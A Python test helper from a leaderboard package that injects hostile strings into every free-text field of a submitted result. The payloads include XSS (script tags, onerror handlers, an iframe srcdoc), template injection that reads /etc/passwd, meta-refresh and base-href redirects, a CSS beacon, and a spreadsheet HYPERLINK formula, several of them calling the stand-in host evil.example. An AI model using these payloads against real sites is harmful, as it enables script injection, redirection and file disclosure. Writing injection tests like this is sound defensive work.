"""Strings that a stranger may put into every free field of a result, within what reading lets through."""

from __future__ import annotations

from dataclasses import replace

from hf_condense.leaderboard.result import MethodFacts, Result, settings_digest

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)><svg onload=alert(3)>',
    "</title></style></pre><script src=//evil.example/a.js></script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "'-alert(4)-'`${alert(5)}`",
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=//evil.example/>',
    "<style>*{background:url(https://evil.example/b.png)}</style>",
    '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
    '=HYPERLINK("https://evil.example","click")',
)
ADDRESS = "https://evil.example/(alert)?a=1&b=2#';alert(7)//"


def hostile(result: Result, number: int = 0) -> Result:
    """The result with a script in every string that may hold free text."""
    text = SCRIPTS[number % len(SCRIPTS)]
    address = ADDRESS.replace("'", "").replace("#", "&")
    settings = {text: text, "nested": {"</pre><script>alert(8)</script>": [text, 1, None, True]}}
    content = result.content
    method = MethodFacts(f"x{number}", text, address, address, settings, settings_digest(settings))
    sets = tuple(replace(s, licence=text, made_by=text) for s in content.sets)
    cost = replace(content.cost, device=text)
    provenance = replace(
        content.provenance, library=text, commit=text, torch=text, python=text, platform=text, command=text
    )
    changed = replace(content, method=method, sets=sets, cost=cost, provenance=provenance)
    return Result.of(changed, result.submitted)
